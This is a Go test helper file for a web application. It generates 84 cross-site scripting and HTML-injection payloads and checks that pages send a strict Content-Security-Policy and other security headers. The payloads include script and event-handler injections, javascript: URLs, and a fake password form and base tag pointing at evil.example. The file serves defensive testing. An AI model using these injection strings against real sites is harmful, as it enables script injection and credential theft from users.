package testworld

import (
	"crypto/sha256"
	"encoding/base64"
	"net/http/httptest"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"herald/shared/testkit"
)

// Payloads returns 84 attacks: each way to break out of a place in a page, with each kind of harm.
func Payloads() (all []string) {
	for _, exit := range []string{
		"", `"`, `'`, `">`, `'>`, `</title>`, `</style>`, `</script>`, `-->`, `"/><!--`, "\r\n\r\n", `{{.}}`,
	} {
		for _, harm := range []string{
			`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
			` onfocus=alert(1) autofocus x=`,
			`<form action=//evil.example><input name=password>`, `<base href=//evil.example>`, `javascript:alert(1)`,
		} {
			all = append(all, exit+harm)
		}
	}
	return all
}

// Shape returns a page's elements and attributes, without the values of inputs.
func Shape(page testkit.HTML) (elements []string) {
	for n := range page.Node.Descendants() {
		if n.Type == html.TextNode || n.Type == html.DocumentNode {
			continue
		}
		e := n.Data
		for _, a := range n.Attr {
			if a.Key == "href" {
				a.Val, _, _ = strings.Cut(a.Val, "?")
			}
			if a.Key != "value" {
				e += " " + a.Key + "=" + a.Val
			}
		}
		elements = append(elements, e)
	}
	return elements
}

// CheckHeaders fails the test unless a page has the headers of all pages, and sets no cookie.
func CheckHeaders(t *testing.T, w *httptest.ResponseRecorder) {
	t.Helper()
	_, inline, _ := strings.Cut(w.Body.String(), "<style>")
	inline, _, _ = strings.Cut(inline, "</style>")
	sum := sha256.Sum256([]byte(inline))
	for name, want := range map[string]string{
		"Content-Security-Policy": "default-src 'none'; style-src 'sha256-" +
			base64.StdEncoding.EncodeToString(sum[:]) +
			"'; img-src 'self' data:; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
		"Content-Type":           "text/html; charset=utf-8",
		"Referrer-Policy":        "same-origin",
		"Cache-Control":          "no-store",
		"X-Content-Type-Options": "nosniff",
		"X-Frame-Options":        "DENY",
		"X-Robots-Tag":           "noindex",
	} {
		if got := w.Header().Get(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if got := w.Header().Values("Set-Cookie"); len(got) != 0 {
		t.Errorf("sets cookies %q", got)
	}
}
